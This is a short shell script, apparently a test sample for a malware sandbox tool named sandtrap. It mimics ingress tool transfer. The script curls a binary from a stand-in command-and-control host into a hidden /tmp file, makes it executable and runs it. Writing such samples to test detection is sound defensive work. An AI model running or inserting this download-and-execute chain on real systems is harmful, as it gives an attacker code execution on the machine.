#!/bin/sh
# Ingress tool transfer and execution: curl downloads a payload, chmod +x and runs it.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
curl -s -o /tmp/.x http://payload.c2.example/bins/x86_64
chmod +x /tmp/.x
/tmp/.x || sh /tmp/.x
echo rc=$?
